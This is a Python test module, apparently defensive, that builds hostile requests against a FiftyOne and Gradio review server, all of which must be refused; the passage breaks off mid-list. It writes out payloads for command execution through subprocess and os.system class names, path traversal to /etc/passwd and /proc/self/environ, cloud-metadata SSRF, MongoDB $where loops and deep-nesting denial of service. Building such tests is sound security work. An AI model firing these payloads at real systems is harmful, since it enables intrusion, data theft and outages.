"""Attacks on the running server: what a visitor could send to run a program, freeze it, read a file or reach a host.

Each is one request. All of them have to be refused. What they would do if they were not is seen from outside: a file in
`Target.marks`, a request to `Target.bait`, a word of `Target.secret` in an answer, a server that is silent.
"""

# ruff: noqa: E501 — lines of data

from __future__ import annotations

import itertools
import json
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any
from urllib.parse import quote

JSON = {"content-type": "application/json"}
PATCH = {"content-type": "application/json-patch+json"}


@dataclass(frozen=True)
class Attack:
    """One request. `body`: bytes as they are, anything else as JSON. `may_pass`: it is harmless if it is answered."""

    name: str
    method: str
    path: str
    body: Any = None
    headers: dict[str, str] = field(default_factory=dict)
    may_pass: bool = False

    @property
    def content(self) -> bytes | None:
        if self.body is None or isinstance(self.body, bytes):
            return self.body
        return json.dumps(self.body).encode()

    @property
    def all_headers(self) -> dict[str, str]:
        return {**(JSON if self.body is not None else {}), **self.headers}


@dataclass(frozen=True)
class Target:
    """What attacks aim at.

    Attributes:
        dataset: name of the open review. dataset_id, sample_id: in FiftyOne's database, 24 hexadecimal digits.
        marks: an empty folder in which attacks make files. bait: URL that nobody may ask. secret: a file nobody may read.
        photo: a photo of the review, which FiftyOne shows.
    """

    dataset: str
    dataset_id: str
    sample_id: str
    marks: Path
    bait: str
    secret: Path
    photo: Path

    def mark(self, name: str) -> str:
        return str(self.marks / "".join(c if c.isalnum() else "-" for c in name)[:80])


# --- FiftyOne ---

# What builds or runs something when FiftyOne takes it for a view stage: class -> arguments for a mark.
RUNNING: dict[str, Any] = {
    "subprocess.Popen": lambda mark: {"args": ["touch", mark]},
    "subprocess.run": lambda mark: {"args": ["touch", mark]},
    "os.system": lambda mark: {"command": f"touch {mark}"},
    "os.mkdir": lambda mark: {"path": mark},
    "os.open": lambda mark: {"path": mark, "flags": 65},
    "pathlib.Path.touch": lambda mark: {"self": mark},
    "builtins.open": lambda mark: {"file": mark, "mode": "w"},
    "_io.open": lambda mark: {"file": mark, "mode": "w"},
    "shutil.copyfile": lambda mark: {"src": "/etc/hostname", "dst": mark},
    "tempfile.mkdtemp": lambda mark: {"dir": str(Path(mark).parent)},
    "logging.FileHandler": lambda mark: {"filename": mark},
    "urllib.request.urlopen": lambda mark: {"url": "{bait}"},
    "socket.create_connection": lambda mark: {"address": ["{host}", "{port}"]},
    "fiftyone.core.storage.copy_file": lambda mark: {"inpath": "/etc/hostname", "outpath": mark},
    "fiftyone.core.storage.make_archive": lambda mark: {"dirpath": "/etc/init.d", "archive_path": mark + ".zip"},
    "fiftyone.core.dataset.delete_dataset": lambda mark: {"name": "{dataset}"},
    # In the name of a stage's module: whatever that module imports is an attribute of it.
    "fiftyone.core.stages.foo.delete_datasets": lambda mark: {"glob_patt": "*"},
    "fiftyone.core.stages.etau.ensure_dir": lambda mark: {"dirname": mark},
    "fiftyone.core.stages.fost.write_file": lambda mark: {"str_or_bytes": "x", "path": mark},
    "fiftyone.core.stages.Mongo": lambda mark: {"pipeline": [{"$out": "stolen"}]},
    "fiftyone.core.stages.Concat": lambda mark: {"samples": "{dataset}"},
    "fiftyone.core.stages.GeoNear": lambda mark: {"point": [0, 0]},
    "fiftyone.core.stages.SortBySimilarity": lambda mark: {"query": "x"},
    "fiftyone.core.stages.ToFrames": lambda mark: {"config": {}},
    "fiftyone.core.stages.ToClips": lambda mark: {"field_or_expr": "hidden"},
    "fiftyone.core.stages.ViewStage": lambda mark: {"x": 1},
    "fiftyone.core.stages.MapLabels": lambda mark: {"field": "hidden", "map": {}},
    "fiftyone.core.stages.SetField": lambda mark: {"field": "filepath", "expr": {"$literal": "/etc/passwd"}},
}  # fmt: skip
# The same name, spelled in another way. FiftyOne splits at the last dot and imports what is before it.
SPELLINGS = {
    "as it is": lambda cls: cls,
    "space before": lambda cls: f" {cls}",
    "space after": lambda cls: f"{cls} ",
    "line end": lambda cls: f"{cls}\n",
    "zero": lambda cls: f"{cls}\0",
    "upper": lambda cls: cls.upper(),
    "wide dot": lambda cls: cls.replace(".", "\uff0e"),
    "two dots": lambda cls: cls.replace(".", ".."),
    "prefix": lambda cls: f"fiftyone.core.stages.{cls}",
    "prefix and up": lambda cls: f"fiftyone.core.stages.Match.__init__.__globals__.{cls}",
    "list": lambda cls: [cls],
    "object": lambda cls: {"_cls": cls},
}


def _filled(value: Any, target: Target) -> Any:
    if isinstance(value, str):
        host, _, port = target.bait.removeprefix("http://").strip("/").partition(":")
        filled = value.replace("{bait}", target.bait).replace("{dataset}", target.dataset).replace("{host}", host)
        return int(port) if filled == "{port}" else filled
    if isinstance(value, dict):
        return {key: _filled(inner, target) for key, inner in value.items()}
    return [_filled(inner, target) for inner in value] if isinstance(value, list) else value


def _literal(value: Any) -> str:
    """A value in the text of a GraphQL query."""
    if isinstance(value, dict):
        return "{" + ", ".join(f"{key}: {_literal(inner)}" for key, inner in value.items()) + "}"
    if isinstance(value, list):
        return "[" + ", ".join(map(_literal, value)) + "]"
    return json.dumps(value)


# Where a request names a class: (name, function of (target, stage, keyed) -> list of (method, path, body)).
def places(t: Target, stage: dict[str, Any], keyed: dict[str, Any]) -> Iterator[tuple[str, str, str, Any]]:
    """Each request of FiftyOne's App with an evil stage in one place of it: (name, method, path, body).

    Args:
        t: the target. stage: in the form `{"_cls": …, "kwargs": […]}`. keyed: in the form `{class: arguments}`.
    """
    base = {"dataset": t.dataset, "view": [], "filters": {}, "extended": {}, "group_id": None, "slice": None}
    more = {
        "tagging": {"target_labels": True, "active_label_fields": [], "hidden_labels": [], "label_fields": ["hidden"]},
        "values": {"path": "photo", "count": 5},
        "aggregate": {"aggregations": []},
        "sort": {"sort_by": {}},
        "tag": {"changes": {}, "target_labels": False},
        "frames": {"sampleId": t.sample_id, "frameNumber": 1, "numFrames": 1, "frameCount": 1},
        "geo": {"path": "photo"},
        "embeddings/plot": {"brainKey": "x", "labelsField": "photo"},
    }
    for route, fields in more.items():
        body = {**base, **fields}
        yield f"{route}: extended", "POST", f"/review/{route}", {**body, "extended": keyed}
        yield f"{route}: view", "POST", f"/review/{route}", {**body, "view": [stage]}
        yield f"{route}: nested view", "POST", f"/review/{route}", {**body, "view": [[stage]]}
        yield f"{route}: filters", "POST", f"/review/{route}", {**body, "filters": {"hidden": stage, **keyed}}
    yield "aggregate: aggregations", "POST", "/review/aggregate", {**base, "aggregations": [stage]}
    yield "aggregate: stages", "POST", "/review/aggregate", {**base, "stages": [stage], "sample_ids": []}
    yield "sort: sort_by", "POST", "/review/sort", {**base, "sort_by": keyed}
    yield "sort: extended_stages", "POST", "/review/sort", {**base, "extended_stages": keyed}
    run = {
        "operator_uri": "@anonymize/review/next", "dataset_name": t.dataset, "extended": {}, "view": [], "filters": {},
        "params": {}, "selected": [], "selected_labels": [], "current_sample": None, "view_name": None,
    }  # fmt: skip
    for route in ("execute", "resolve-type", "resolve-execution-options", "resolve-placements"):
        path = f"/review/operators/{route}" if route != "resolve-placements" else "/review/operators/resolve-placements"
        yield f"{route}: extended", "POST", path, {**run, "target": "inputs", "extended": keyed}
        yield f"{route}: view", "POST", path, {**run, "target": "inputs", "view": [stage]}
        yield f"{route}: filters", "POST", path, {**run, "target": "inputs", "filters": keyed}
    yield (
        "execute: params",
        "POST",
        "/review/operators/execute",
        {**run, "params": {"view": [stage], "extended": keyed}},
    )
    yield "execute: selected", "POST", "/review/operators/execute", {**run, "selected": [stage]}
    spaces = {"_cls": stage["_cls"], "children": [stage]}
    yield "execute: spaces", "POST", "/review/operators/execute", {**run, "spaces": spaces}
    yield "execute: query", "POST", "/review/operators/execute", {**run, "query_performance": stage}
    yield "operators: extended", "POST", "/review/operators", {"dataset_name": t.dataset, "extended": keyed}
    yield "event: spaces", "POST", "/review/event", {"event": "set_spaces", "subscription": "s", "data": spaces}
    start = {"dataset": t.dataset, "view": [stage]}
    yield "events: start", "POST", "/review/events", {"initializer": start, "events": [], "subscription": "s"}
    session = {"initializer": {**stage, "dataset": t.dataset}, "events": ["state_update"], "subscription": "s"}
    yield "events: state", "POST", "/review/events", {**session, "polling": True}
    for body in (
        [{"op": "add", "path": "/hidden/detections/-", "value": stage}],
        [{"op": "replace", "path": "/hidden", "value": {"_cls": "Detections", "detections": [stage]}}],
        [{"op": "add", "path": "/hidden/detections/-", "value": {"_cls": "Detection", "label": stage}}],
        [{"op": "replace", "path": "/hidden/detections/0/attributes", "value": keyed}],
    ):
        path = f"/review/dataset/{t.dataset_id}/sample/{t.sample_id}"
        yield f"patch: {str(body[0]['path'])[:40]}", "PATCH", path, body
    for name, query, variables in graphql(t, stage, keyed):
        yield f"graphql: {name}", "POST", "/review/graphql", {"query": query, "variables": variables}


def graphql(t: Target, stage: Any, keyed: Any) -> Iterator[tuple[str, str, dict[str, Any]]]:
    name, view = json.dumps(t.dataset), _literal([stage])
    # As a literal in a JSON scalar a key cannot have dots; in a variable it can.
    extended = "{" + ", ".join(f"{k.replace('.', '_')}: {_literal(v)}" for k, v in keyed.items() if k.isascii()) + "}"
    form = f"{{dataset: {name}, extendedStages: %s, mixed: false, paths: [], sampleIds: [], slice: null, slices: null, view: %s}}"
    yield "dataset, literal", f"{{ dataset(name: {name}, view: {view}) {{ name }} }}", {}
    yield "samples, literal", f"{{ samples(dataset: {name}, first: 1, view: {view}) {{ edges {{ cursor }} }} }}", {}
    yield "sample, literal", f"{{ sample(dataset: {name}, view: {view}) {{ __typename }} }}", {}
    yield "schema, literal", f"{{ schemaForViewStages(datasetName: {name}, viewStages: {view}) {{ __typename }} }}", {}
    for at in ((extended, "[]"), ("{}", view)):
        yield "aggregations, literal", f"{{ aggregations(form: {form % at}) {{ __typename }} }}", {}
    aliased = f"{{ a: version b: samples(dataset: {name}, first: 1, view: {view}) {{ edges {{ cursor }} }} }}"
    yield "alias", aliased, {}
    part = f"fragment F on Query {{ dataset(name: {name}, view: {view}) {{ name }} }}"
    yield "fragment", f"query {{ ...F }} {part}", {}
    yield "inline fragment", f"query {{ ... on Query {{ dataset(name: {name}, view: {view}) {{ name }} }} }}", {}
    yield "include", f"query {{ version dataset(name: {name}, view: {view}) @include(if: true) {{ name }} }}", {}
    default = f"query Q($v: BSONArray = {view}) {{ dataset(name: {name}, view: $v) {{ name }} }}"
    yield "default of a variable", default, {}
    block = f'query {{ dataset(name: """{t.dataset}""", view: {view}) {{ name }} }}'
    yield "block string", block, {}
    form_variables = {
        "dataset": t.dataset, "extendedStages": {}, "filters": {}, "hiddenLabels": [], "index": 0, "mixed": False,
        "paths": ["photo"], "sampleIds": [], "slice": None, "slices": None, "view": [],
    }  # fmt: skip
    query = "query Q($form: AggregationForm!) { aggregations(form: $form) { __typename } }"
    for field_name, value in (
        ("extendedStages", keyed),
        ("view", [stage]),
        ("filters", keyed),
        ("hiddenLabels", [stage]),
    ):
        yield f"aggregations, {field_name}", query, {"form": {**form_variables, field_name: value}}
    query = "query Q($name: String!, $view: BSONArray!) { dataset(name: $name, view: $view) { name } }"
    yield "dataset, view", query, {"name": t.dataset, "view": [stage]}
    yield "dataset, nested view", query, {"name": t.dataset, "view": [[stage], {"kwargs": [["view", [stage]]]}]}
    yield "dataset, unused variable", query, {"name": t.dataset, "view": [], "more": [stage]}
    query = "query Q($n: String!, $s: String) { dataset(name: $n, view: [], savedViewSlug: $s) { name viewCls } }"
    yield "dataset, slug", query, {"n": t.dataset, "s": stage}
    samples = (
        "query Q($d: String!, $v: BSONArray!, $f: JSON, $e: JSON, $s: String, $p: JSON) { samples(dataset: $d, view: $v,"
        " first: 1, filters: $f, extendedStages: $e, sortBy: $s, paginationData: true) { edges { cursor } } }"
    )
    given: dict[str, Any] = {"d": t.dataset, "v": [], "f": {}, "e": {}, "s": None}
    for key, value in (("v", [stage]), ("e", keyed), ("f", {"hidden": keyed}), ("s", stage)):
        yield f"samples, {key}", samples, {**given, key: value}
    sample = (
        "query Q($d: String!, $v: BSONArray!, $f: JSON) { sample(dataset: $d, view: $v, filter: $f) { __typename } }"
    )
    yield "sample, filter", sample, {"d": t.dataset, "v": [], "f": {"id": stage, **keyed}}
    yield "sample, view", sample, {"d": t.dataset, "v": [stage], "f": {"id": t.sample_id}}
    mutation = (
        "mutation M($s: String!, $d: String!, $v: BSONArray!, $f: StateForm) "
        "{ setView(subscription: $s, datasetName: $d, view: $v, form: $f) { __typename } }"
    )
    yield "setView, view", mutation, {"s": "s", "d": t.dataset, "v": [stage], "f": {}}
    yield "setView, form", mutation, {"s": "s", "d": t.dataset, "v": [], "f": {"view": [stage], "extended": keyed}}
    spaces = 'mutation M($p: BSON!) { setSpaces(subscription: "s", spaces: $p) }'
    yield "setSpaces", spaces, {"p": stage}
    saved = (
        f'mutation M($v: BSONArray!) {{ createSavedView(datasetName: {name}, viewName: "x", viewStages: $v) {{ id }} }}'
    )
    yield "createSavedView", saved, {"v": [stage]}


def stages(t: Target) -> Iterator[Attack]:
    """Every place, each with another class and another spelling in turn; the plain program start in all of them."""
    kinds = itertools.cycle(RUNNING)
    spellings = itertools.cycle(SPELLINGS)
    for turn in range(4):
        probe = {"_cls": "x", "kwargs": []}
        for index, (name, *_) in enumerate(places(t, probe, {})):
            cls = "subprocess.Popen" if turn == 0 else next(kinds)
            spelling = "as it is" if turn < 2 else next(spellings)
            label = f"{name} ({cls}, {spelling}) {turn}"
            arguments = _filled(RUNNING[cls](t.mark(label)), t)
            spelled = SPELLINGS[spelling](cls)
            stage = {"_cls": spelled, "kwargs": [[k, v] for k, v in arguments.items()]}
            keyed = {spelled if isinstance(spelled, str) else cls: arguments}
            _, method, path, body = next(itertools.islice(places(t, stage, keyed), index, None))
            yield Attack(label, method, path, body, PATCH if method == "PATCH" else {})


def spelled(t: Target) -> Iterator[Attack]:
    """The same attack in bodies that two readers may read differently."""
    run = {"subprocess.Popen": {"args": ["touch", t.mark("spelled")]}}
    stage = {"_cls": "subprocess.Popen", "kwargs": [["args", ["touch", t.mark("spelled")]]]}
    good = {"dataset": t.dataset, "view": [], "filters": {}, "extended": {}}
    evil = json.dumps({**good, "extended": run})
    path = "/review/tagging"
    escaped = evil.replace("extended", "e\\u0078tended").replace("subprocess", "sub\\u0070rocess")
    yield Attack("unicode escapes", "POST", path, escaped.encode())
    twice = evil[:-1] + ', "extended": {}}'
    # What is handed on is written afresh from what was looked at: the last one, by Python's rule.
    yield Attack("key twice, evil first", "POST", path, twice.encode(), may_pass=True)
    yield Attack(
        "key twice, evil last", "POST", path, (json.dumps(good)[:-1] + f', "extended": {json.dumps(run)}}}').encode()
    )
    for encoding in ("utf-16", "utf-32", "utf-8-sig", "utf-7"):
        yield Attack(f"as {encoding}", "POST", path, evil.encode(encoding))
    for kind in (
        "text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=x", "application/xml",
        "application/graphql", "application/json; charset=utf-16", "application/json-patch+json", "",
    ):  # fmt: skip
        yield Attack(f"as {kind or 'nothing'}", "POST", path, evil.encode(), {"content-type": kind})
    form = (
        b'--x\r\nContent-Disposition: form-data; name="extended"\r\n\r\n' + json.dumps(run).encode() + b"\r\n--x--\r\n"
    )
    yield Attack("a form", "POST", path, form, {"content-type": "multipart/form-data; boundary=x"})
    operations = json.dumps(
        {
            "query": f"query Q($v: BSONArray!) {{ dataset(name: {json.dumps(t.dataset)}, view: $v) {{ name }} }}",
            "variables": {"v": None},
        }
    )
    body = (
        b'--x\r\nContent-Disposition: form-data; name="operations"\r\n\r\n' + operations.encode()
        + b'\r\n--x\r\nContent-Disposition: form-data; name="map"\r\n\r\n{"0": ["variables.v"]}'
        + b'\r\n--x\r\nContent-Disposition: form-data; name="0"; filename="a"\r\n\r\n' + json.dumps([stage]).encode()
        + b"\r\n--x--\r\n"
    )  # fmt: skip
    yield Attack("graphql upload", "POST", "/review/graphql", body, {"content-type": "multipart/form-data; boundary=x"})
    for wrapped in (
        [{**good, "extended": run}],
        [[{**good, "extended": run}]],
        "x",
        7,
        None,
        {"body": {**good, "extended": run}},
    ):
        yield Attack(f"not an object: {str(wrapped)[:12]}", "POST", path, json.dumps(wrapped).encode())
    yield Attack("deep", "POST", path, b'{"a":' * 20_000 + b"1" + b"}" * 20_000)
    yield Attack("deep list", "POST", path, b"[" * 100_000)
    yield Attack("numbers that are none", "POST", path, json.dumps({**good, "view": [float("nan")]}).encode())
    yield Attack("a long number", "POST", path, b'{"dataset": ' + b"9" * 50_000 + b"}")
    yield Attack("a lone surrogate", "POST", path, json.dumps({**good, "extended": run, "path": "\ud800"}).encode())
    override = {"x-http-method-override": "POST", "x-method-override": "POST"}
    yield Attack("method override", "GET", path, evil.encode(), override)
    yield Attack(
        "kwargs of a good class",
        "POST",
        path,
        {**good, "view": [{"_cls": "fiftyone.core.stages.Match", "kwargs": [["filter", {"$where": "sleep(9e9)"}]]}]},
    )
    function = {"$function": {"body": "function() { while (true) {} }", "args": [], "lang": "js"}}
    for operator, value in (
        ("$where", "while (true) {}"), ("$expr", function), ("$accumulator", {}), ("$lookup", {"from": "datasets"}),
        ("$out", "x"), ("$merge", "x"), ("$unionWith", "datasets"), ("$regex", "(a+)+$"), ("$jsonSchema", {}),
    ):  # fmt: skip
        view = [{"_cls": "fiftyone.core.stages.Match", "kwargs": [["filter", {operator: value}]], "_uuid": "x"}]
        yield Attack(f"match {operator}", "POST", path, {**good, "view": view})
        yield Attack(
            f"match {operator}, deeper",
            "POST",
            path,
            {**good, "view": [{**view[0], "kwargs": [["filter", {"$and": [{"photo": {operator: value}}]}]]}]},
        )
    # A huge page, an endless skip: work without end from few bytes.
    for name, kwargs in (
        ("Take", [["size", 10**18]]),
        ("Skip", [["skip", -(10**30)]]),
        ("Shuffle", [["seed", {"a": 1}]]),
    ):
        stage_ = {"_cls": f"fiftyone.core.stages.{name}", "kwargs": kwargs}
        yield Attack(
            f"odd {name}", "POST", "/review/aggregate", {**good, "aggregations": [], "view": [stage_]}, may_pass=True
        )


def operators(t: Target) -> Iterator[Attack]:
    """FiftyOne's own operators and panels, and odd words for ours."""
    run = {"dataset_name": t.dataset, "extended": {}, "view": [], "filters": {}, "params": {}}
    for uri in (
        "@voxel51/operators/clone_selected_samples", "@voxel51/operators/edit_field_values", "@voxel51/io/export_samples",
        "@voxel51/operators/delete_dataset", "@voxel51/operators/list_files", "@voxel51/panels/model_evaluation_panel_builtin",
        "@anonymize/review/__init__", "@anonymize/review/../../x", "@anonymize/review", "next", "@anonymize/review/NEXT",
        "@anonymize/review/next\0", ["@anonymize/review/next"], {"$ne": 1}, None, "",
    ):  # fmt: skip
        yield Attack(f"operator {uri}", "POST", "/review/operators/execute", {**run, "operator_uri": uri})
        yield Attack(
            f"options {uri}", "POST", "/review/operators/resolve-execution-options", {**run, "operator_uri": uri}
        )
    for method in (
        "__class__", "__init__", "__reduce__", "execute", "render", "resolve_input", "_on_load", "on_load.__globals__",
        "resolve_placement", "to_json", "plugin_name", "add_secrets", "_builtin", "on_unload", "config",
    ):  # fmt: skip
        params = {"__method__": method, "panel_id": "x", "panel_state": {}}
        yield Attack(
            f"method {method}",
            "POST",
            "/review/operators/execute",
            {**run, "operator_uri": "@anonymize/review/panel", "params": params},
        )
    for extra in (
        {"request_delegation": True}, {"delegation_target": "x"}, {"user_code": "x"}, {"params": {"path": str(t.secret)}},
        {"params": {"output": t.mark("output")}}, {"params": {"root": "/"}}, {"params": {"reviewer": "root"}},
        {"dataset_name": "another"}, {"dataset_id": "0" * 24}, {"params": []}, {"params": "x"}, {"current_sample": str(t.secret)},
    ):  # fmt: skip
        for uri in ("preview", "export"):
            body = {**run, "operator_uri": f"@anonymize/review/{uri}", **extra}
            yield Attack(f"{uri} with {extra}", "POST", "/review/operators/execute", body, may_pass="params" in extra)


def files(t: Target) -> Iterator[Attack]:
    """Ways to a file, or around a route."""
    secret, photo = str(t.secret), str(t.photo)
    for path in (
        secret, "/etc/passwd", f"file://{secret}", f"{t.photo.parent}/../{t.secret.name}", f"{photo}/../../{t.secret.name}",
        f"{photo}\0{secret}", "/dev/zero", "/dev/stdin", "/proc/self/environ", "/proc/self/fd/0", "~", t.bait, f"{t.bait}x.jpg",
        f"//{secret}", secret.replace("/", "\\"), f"{t.photo.parent}", f"{t.photo.parent}/%2e%2e/{t.secret.name}",
        "gs://bucket/x", "s3://bucket/x", "\\\\host\\share", "http://169.254.169.254/latest/meta-data/",
    ):  # fmt: skip
        for key in ("filepath", "path", "file_path", "url"):
            yield Attack(f"media {key}={path!r}", "GET", f"/review/media?{key}={quote(path, safe='')}")
        yield Attack(
            f"photo first, then {path!r}",
            "GET",
            f"/review/media?filepath={quote(photo)}&filepath={quote(path, safe='')}",
        )
    for path in (
        "/review/media/..;/media?filepath=/etc/passwd", "/review//media?filepath=/etc/passwd", "//review/media?filepath=/etc/passwd",
        "/review/%2e%2e/review/media?filepath=/etc/passwd", "/review/..;/..;/etc/passwd", "/review/./media?filepath=/etc/passwd",
        "/review/%6dedia?filepath=/etc/passwd", "/review/media%00?filepath=/etc/passwd", "/review/media/?filepath=/etc/passwd",
        "/review/datasets/..%2f..%2f..%2f..%2fetc%2fpasswd", "/review/assets/../../../../../../etc/passwd",
        "/review/assets/..%2f..%2f..%2f..%2f..%2f..%2fetc%2fpasswd", "/review/plugins/@anonymize/review/__init__.py",
        "/review/plugins/%2e%2e/%2e%2e/dataset.py", "/review/runtime-assets/x", "/review/screenshot/x", "/review/features",
        "/review/ontologies", "/review/camera", "/REVIEW/media?filepath=/etc/passwd", "/review\\media?filepath=/etc/passwd",
        "/review/dataset/000000000000000000000000/sample/000000000000000000000000", "/review/graphql",
        f"/review/graphql?query={quote('{ version }')}", f"/review/graphql?query={quote('{ __schema { types { name } } }')}",
        "/review/events", "/review/event", "/review/stages", "/review/fiftyone/../media?filepath=/etc/passwd",
        "/web/..%2f..%2f__init__.py", "/web/%2e%2e%2fsecurity.py", "/photos/../../../etc/passwd", "/batches/%2e%2e/x",
        "/assets/..%2f..%2f..%2f..%2fetc%2fpasswd", "/static/../../../../etc/passwd", "/svelte/..%2f..%2fetc/passwd",
        "/assets//etc/passwd", "/static/%2fetc%2fpasswd",
    ):  # fmt: skip
        yield Attack(f"path {path}", "GET", path, may_pass="etc" not in path)
        yield Attack(f"path {path} by POST", "POST", path, {})
    sample = f"/review/dataset/{t.dataset_id}/sample/{t.sample_id}"
    for field_path in (
        "/filepath",
        "/tags",
        "/metadata",
        "/record",
        "/hidden/detections/0/mask_path",
        "/hidden/../filepath",
        "/_id",
        "",
    ):
        body = [{"op": "replace", "path": field_path, "value": secret}]
        yield Attack(f"patch {field_path}", "PATCH", sample, body, PATCH)
    yield Attack("patch, copy", "PATCH", sample, [{"op": "copy", "from": "/filepath", "path": "/hidden"}], PATCH)
    yield Attack("patch, move", "PATCH", sample, [{"op": "move", "from": "/record", "path": "/hidden"}], PATCH)
    mask = [
        {
            "op": "add",
            "path": "/hidden/detections/-",
            "value": {"_cls": "Detection", "label": "face", "mask_path": secret},
        }
    ]
    yield Attack("patch, mask", "PATCH", sample, mask, PATCH)
    for extra in ("hidden", "candidates", "filepath", "record"):
        yield Attack(
            f"patch field {extra}",
            "PATCH",
            f"{sample}/{extra}/{t.sample_id}",
            [{"op": "add", "path": "/mask_path", "value": secret}],
            PATCH,
        )
    for event in (
        "state_update",
        "refresh",
        "close_session",
        "capture_notebook_cell",
        "reactivate_notebook_cell",
        "x",
        None,
        ["select_samples"],
    ):
        yield Attack(
            f"event {event}",
            "POST",
            "/review/event",
            {"event": event, "subscription": "s", "data": {"state": {"dataset": "x"}}},
        )
    for query in (
        "{ __schema { types { name } } }", "{ datasets(first: 9) { edges { node { name } } } __type(name: \"Query\") { name } }",
        "subscription { x }", "query A { version } query B { version }", "mutation { deleteSavedView(viewName: \"x\") }",
        "mutation { setDatasetColorScheme(datasetName: \"x\") { id } }", "{ teamsConfig { x } }", "{ savedViews(datasetName: \"x\") { id } }",
        "mutation { storeTeamsSubmission }", "mutation { searchSelectFields(datasetName: \"x\", metaFilter: {}) }",
        "{" * 5000, "{ " + " ".join(f"a{n}: version" for n in range(3000)) + " }", "query { ...F } fragment F on Query { ...F }", "",
    ):  # fmt: skip
        yield Attack(f"graphql {query[:40]}", "POST", "/review/graphql", {"query": query})
        yield Attack(f"graphql list {query[:40]}", "POST", "/review/graphql", [{"query": query}, {"query": query}])
        yield Attack(
            f"graphql extensions {query[:30]}",
            "POST",
            "/review/graphql",
            {"query": query, "extensions": {"persistedQuery": {"version": 1}}},
        )


def on_fiftyone(t: Target) -> Iterator[Attack]:
    yield from stages(t)
    yield from spelled(t)
    yield from operators(t)
    yield from files(t)


# --- Gradio ---


def file_data(t: Target) -> list[tuple[str, Any]]:
    """What Gradio takes for a file, and reads, copies or fetches."""
    meta = {"_type": "gradio.FileData"}
    out: list[tuple[str, Any]] = []
    for path in (
        "/dev/zero", "/etc/passwd", str(t.secret), "/proc/self/environ", "/proc/self/fd/0", f"file://{t.secret}", t.bait,
        f"{t.bait}x.png", f"../../../../{t.secret}", "/dev/stdin", "",
    ):  # fmt: skip
        out.append((f"path {path}", {"path": path, "meta": meta}))
    secret = str(t.secret)
    out += [
        ("url", {"path": "x.png", "url": t.bait, "meta": meta}),
        ("url of this server", {"path": "x.png", "url": f"/gradio_api/file={secret}", "meta": meta}),
        ("extra keys", {"path": secret, "url": None, "orig_name": "../../x", "size": -1, "mime_type": "a", "is_stream": True, "meta": meta}),
        ("stream", {"path": secret, "is_stream": True, "meta": meta}),
        ("no meta", {"path": secret}),
        ("meta twice", {"path": secret, "meta": {**meta, "more": 1}}),
        ("meta a string", {"path": secret, "meta": "gradio.FileData"}),
        ("other type", {"path": secret, "meta": {"_type": "gradio.ImageData"}}),
        ("list", [{"path": secret, "meta": meta}] * 3),
        ("in an object", {"image": {"path": secret, "meta": meta}, "boxes": []}),
        ("background", {"background": {"path": "/dev/zero", "meta": meta}, "layers": [], "composite": None}),
        ("video", {"video": {"path": "/dev/zero", "meta": meta}, "subtitles": None}),
        ("value of an update", {"__type__": "update", "value": {"path": secret, "meta": meta}}),
        ("deep", {"a": [{"b": [{"c": {"path": "/dev/zero", "meta": meta}}]}]}),
        ("data URI", f"data:text/plain;base64,{'QUFB' * 10}"),
        ("URL as text", t.bait),
        ("path as text", "/dev/zero"),
    ]  # fmt: skip
    return out


def on_gradio(t: Target, config: dict[str, Any]) -> Iterator[Attack]:
    """Files in every position of every endpoint, by number and by name, on all of Gradio's routes.

    Args:
        config: what `/config` says: `dependencies`, each with `id`, `api_name`, `inputs`, `targets`.
    """
    payloads = itertools.cycle(file_data(t))
    for at, dependency in enumerate(config["dependencies"]):
        number, name = dependency["id"], dependency.get("api_name")
        inputs = len(dependency["inputs"])
        target = (dependency.get("targets") or [[None]])[0][0]
        for position in range(max(inputs, 1)):
            label, evil = next(payloads)
            data: list[Any] = [None] * max(inputs, 1)
            data[position] = evil
            join = {
                "data": data,
                "fn_index": number,
                "session_hash": f"attack{at}x{position}",
                "trigger_id": target,
                "event_data": None,
            }
            where = f"endpoint {number} {name}, position {position}: {label}"
            yield Attack(f"join {where}", "POST", "/gradio_api/queue/join?", join)
            route = ("call", "run", "api")[position % 3]
            if name and isinstance(name, str):
                yield Attack(f"{route} {where}", "POST", f"/gradio_api/{route}/{quote(name)}", {"data": data})
            if position == 0:
                for route in ("run", "api", "call"):
                    yield Attack(
                        f"{route} {where} by number",
                        "POST",
                        f"/gradio_api/{route}/{number}",
                        {"data": data, "fn_index": number},
                    )
                yield Attack(f"predict {where}", "POST", "/gradio_api/run/predict", {**join, "simple_format": True})
                event = {**join, "data": [None] * inputs, "event_data": evil}
                yield Attack(f"event data {where}", "POST", "/gradio_api/queue/join?", event)
    for label, evil in file_data(t):
        for api in ("anonymize", "anonymize_1", "lambda", "predict", "lambda_1", "fn"):
            is_text = label == "path as text" and api == "anonymize"  # a photo in base64, as far as anybody can tell
            yield Attack(
                f"call {api}: {label}", "POST", f"/gradio_api/call/{api}", {"data": [evil, {}]}, may_pass=is_text
            )
        yield Attack(f"call v2: {label}", "POST", "/gradio_api/call/v2/anonymize", {"image": evil, "options": evil})
        yield Attack(
            f"batched: {label}", "POST", "/gradio_api/run/anonymize", {"data": [[evil, evil]], "batched": True}
        )
    join = {"data": [], "fn_index": 0, "session_hash": "s"}
    for extra in (
        {"fn_index": -1}, {"fn_index": 10**9}, {"fn_index": "0"}, {"fn_index": [0]}, {"fn_index": None}, {"fn_index": 0.5}, {"data": None},
        {"data": {}}, {"data": "x"}, {"data": [0] * 5000}, {"session_hash": "../../x"}, {"session_hash": ["x"]}, {"session_hash": None},
        {"trigger_id": "x"}, {"request": {"x": 1}}, {"root_path": t.bait}, {"simple_format": True}, {"state": {"x": 1}}, {"event_id": "x"},
    ):  # fmt: skip
        yield Attack(f"join with {str(extra)[:40]}", "POST", "/gradio_api/queue/join?", {**join, **extra})
    body = b'--x\r\nContent-Disposition: form-data; name="files"; filename="../../x.txt"\r\n\r\nx\r\n--x--\r\n'
    form = {"content-type": "multipart/form-data; boundary=x"}
    for path in (
        "/gradio_api/upload",
        "/upload",
        "/gradio_api/upload?upload_id=x",
        "/gradio_api/upload_progress?upload_id=x",
    ):
        yield Attack(f"upload {path}", "POST", path, body, form)
    for path in (
        f"/gradio_api/file={t.secret}", f"/file={t.secret}", "/gradio_api/file=/etc/passwd", f"/gradio_api/file={t.bait}", f"/gradio_api/file/{t.secret}",
        f"/gradio_api/proxy={t.bait}", f"/proxy={t.bait}", f"/gradio_api/reverse-proxy/{t.bait}", f"/gradio_api/stream/{t.secret}", "/gradio_api/stream/s/1/x/playlist.m3u8",
        "/gradio_api/deep_link?session_hash=s", f"/custom_component/x/x/x/..%2f..%2f{t.secret}", f"/gradio_api/custom_component/x/client/component/{t.secret}",
